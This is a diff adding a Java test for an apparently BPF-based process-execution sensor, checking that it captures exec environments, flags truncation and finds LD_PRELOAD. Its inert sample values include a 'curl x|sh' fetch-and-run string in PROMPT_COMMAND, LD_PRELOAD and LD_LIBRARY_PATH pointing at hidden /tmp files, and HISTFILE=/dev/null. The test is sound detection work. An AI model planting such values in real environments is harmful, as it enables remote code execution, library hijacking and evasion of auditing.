@@ -177,4 +177,39 @@ class ProcessBpfTest {
         assertEquals(ProcessHandle.current().pid(), failed.header().ppid(), "the header is the kernel's, not argument bytes");
         assertTrue(failed.argvTruncated());
     }
+
+    @Test
+    void theEnvironmentAtExecByEitherRoute() throws Exception {
+        LiveSensor s = LiveSensor.get();
+        ProcessBuilder pb = new ProcessBuilder("/bin/true");
+        pb.environment().clear();
+        pb.environment().put("PROMPT_COMMAND", "curl x|sh");
+        pb.environment().put("LD_LIBRARY_PATH", "/tmp/.x");
+        Process p = pb.start();
+        p.waitFor();
+        ExecEvent e = (ExecEvent) s.await("exec with an environment", ev -> ev instanceof ExecEvent x && x.header().pid() == p.pid()
+                && x.exe().endsWith("/true"));
+        assertTrue(e.env().contains("PROMPT_COMMAND=curl x|sh") && e.env().contains("LD_LIBRARY_PATH=/tmp/.x"), e.env().toString());
+        assertFalse(e.envTruncated());
+
+        LiveSensor.Triggered t = LiveSensor.trigger("fexecve-env");
+        int child = t.outInt(0);
+        ExecEvent f = (ExecEvent) s.await("fexecve with an environment", ev -> ev instanceof ExecEvent x && x.header().pid() == child);
+        assertEquals(List.of("GLIBC_TUNABLES=glibc.malloc.check=3", "HISTFILE=/dev/null"), f.env());
+
+        // past the cap: cut and flagged; LD_PRELOAD is still found wherever it is
+        ProcessBuilder big = new ProcessBuilder("/bin/true");
+        big.environment().clear();
+        big.environment().put("A_PADDING", "p".repeat(6000));
+        big.environment().put("ZZ_LD", "1");
+        big.environment().put("LD_PRELOAD", "/tmp/.hidden.so");
+        big.redirectErrorStream(true);
+        Process q = big.start();
+        q.getInputStream().readAllBytes();
+        q.waitFor();
+        ExecEvent g = (ExecEvent) s.await("exec with a large environment", ev -> ev instanceof ExecEvent x && x.header().pid() == q.pid()
+                && x.exe().endsWith("/true"));
+        assertTrue(g.envTruncated());
+        assertEquals("/tmp/.hidden.so", g.ldPreload());
+    }
 }
